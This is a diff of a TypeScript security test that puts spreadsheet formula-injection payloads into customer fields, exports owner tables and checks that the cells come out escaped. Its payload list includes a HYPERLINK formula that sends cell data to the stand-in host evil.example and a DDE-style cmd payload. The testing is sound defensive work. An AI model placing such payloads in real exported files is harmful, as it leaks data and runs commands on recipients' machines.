@@ -1,4 +1,4 @@
-// Texts of customers that a spreadsheet would take for formulas, in the tables that owners download.
+// Customer texts that a spreadsheet would treat as formulas, in exported tables.
 import { type CellObject, read as readWorkbook } from '@e965/xlsx'
 import { api } from '@switchboard/contract'
 import type { Installation } from './installation.ts'
@@ -8,7 +8,7 @@ const CALLS = ['1+1', 'HYPERLINK("https://evil.example/?"&A1,"x")', `cmd|'/C cal
 
 export const FORMULAS = STARTS.flatMap((start) => CALLS.map((call) => start + call))
 
-/** Puts each into a name, a question and an answer; tells the cells that begin like a formula. */
+/** Puts each formula into a name, a question and an answer; returns the exported cells that start like a formula. */
 export async function formulas(installation: Installation): Promise<{ cells: number; problems: string[] }> {
   const owner = await installation.newOwner()
   const { agentId, botId } = await installation.newWidget(owner)
@@ -37,13 +37,13 @@ export async function formulas(installation: Installation): Promise<{ cells: num
   const typed: CellObject[] = Object.values(Sheets).flatMap((sheet) => Object.values(sheet))
   const problems = [
     ...cells.filter((cell) => !cell.startsWith("'")),
-    // A workbook says of each cell what it is.
+    // In a workbook, each cell has a type.
     ...typed.filter((cell) => cell.f !== undefined).map(({ f }) => `a formula in the workbook: ${f}`),
   ]
   return { cells: cells.length + typed.filter(({ v }) => FORMULAS.includes(String(v))).length, problems }
 }
 
-/** Of RFC 4180, whose quoted cells may hold anything. */
+/** Parses cells according to RFC 4180, where quoted cells may contain anything. */
 const cellsOf = (csv: string) =>
   [...csv.matchAll(/"((?:[^"]|"")*)"|[^",\r\n]+/g)].map(([cell, quoted]) =>
     quoted === undefined ? cell : quoted.replaceAll('""', '"'),
